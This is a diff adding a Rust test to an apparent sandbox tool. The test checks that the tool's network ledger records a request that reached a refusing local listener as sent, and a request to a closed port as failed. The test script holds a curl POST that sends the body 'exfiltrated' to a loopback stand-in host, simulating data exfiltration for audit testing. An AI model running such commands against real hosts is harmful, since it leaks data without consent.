@@ -256,6 +256,99 @@ fn requests_and_tunnels_are_recorded_with_their_outcomes() {
     assert!(tunnel["bytes_out"].as_u64().unwrap() > 0, "{tunnel}");
 }
 
+/// A request that reached its origin is recorded as performed even when it ends in a refusal
+/// (an origin that reads it and breaks off): an origin the task controls must not make what
+/// it received look, in the ledger, as if it never left. The twin: an origin that cannot be
+/// reached, where nothing left, is recorded as failed before it was sent.
+#[test]
+fn a_request_that_reached_its_origin_is_never_recorded_as_unsent() {
+    use std::io::{Read as _, Write as _};
+    let w = World::new();
+    let listener = std::net::TcpListener::bind("127.0.0.2:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let received = std::thread::spawn(move || {
+        let (mut conn, _) = listener.accept().unwrap();
+        let mut got = Vec::new();
+        let mut buf = [0u8; 4096];
+        while !got.ends_with(b"exfiltrated") {
+            match conn.read(&mut buf) {
+                Ok(0) | Err(_) => break,
+                Ok(n) => got.extend_from_slice(&buf[..n]),
+            }
+        }
+        // Read, then break off without an answer.
+        let _ = conn.write_all(b"garbage, not HTTP\r\n\r\n");
+        drop(conn);
+        got
+    });
+    let closed = std::net::TcpListener::bind("127.0.0.2:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port();
+    let remit = format!(
+        "[network]\nallow = [\"127.0.0.2:{port}\", \"127.0.0.2:{closed}\"]\nprivate = [\"127.0.0.2\"]\n"
+    );
+    let script = format!(
+        "curl -sS -o /dev/null -w '%{{http_code}}\\n' -X POST --data-binary exfiltrated http://127.0.0.2:{port}/in; \
+         curl -sS -o /dev/null -w '%{{http_code}}\\n' -X PUT --data-binary kept http://127.0.0.2:{closed}/in; true"
+    );
+    let out = w
+        .command()
+        .args(["run", "--quiet", "--remit"])
+        .arg(w.remit(&remit))
+        .args(["--", "bash", "-c", &script])
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", show(&out));
+    let got = received.join().unwrap();
+    assert!(
+        got.ends_with(b"exfiltrated"),
+        "{}",
+        String::from_utf8_lossy(&got)
+    );
+
+    let events = crate::code_support::ledger(&w);
+    let all = serde_json::to_string(&events).unwrap();
+    let outcome = |method: &str| {
+        let started = events
+            .iter()
+            .find(|e| {
+                e["body"]["kind"] == "effect_started"
+                    && e["body"]["effect"]["attributes"]["method"] == method
+            })
+            .unwrap_or_else(|| panic!("no {method} started: {all}"));
+        let id = &started["body"]["effect"]["id"];
+        events
+            .iter()
+            .find(|e| {
+                (e["body"]["kind"] == "effect_performed" || e["body"]["kind"] == "effect_failed")
+                    && e["body"]["effect_id"] == *id
+            })
+            .unwrap_or_else(|| panic!("no outcome for {method}: {all}"))["body"]
+            .clone()
+    };
+    let post = outcome("POST");
+    assert_eq!(post["kind"], "effect_performed", "{post}");
+    assert!(
+        post["outcome"]
+            .as_str()
+            .unwrap()
+            .starts_with("sent, then refused"),
+        "{post}"
+    );
+    assert_eq!(post["bytes_out"], 11, "{post}");
+    let put = outcome("PUT");
+    assert_eq!(put["kind"], "effect_failed", "{put}");
+    assert!(
+        put["error"]
+            .as_str()
+            .unwrap_or_default()
+            .contains("before it was sent"),
+        "{put}"
+    );
+}
+
 /// An official agent SDK, unchanged, inside a task: Anthropic's Python SDK (`anthropic` from
 /// PyPI) reads its usual variables (`ANTHROPIC_API_KEY`, `ANTHROPIC_BASE_URL`) and the
 /// proxy variables and CA bundle remit sets, and talks to a Messages API origin, plain and
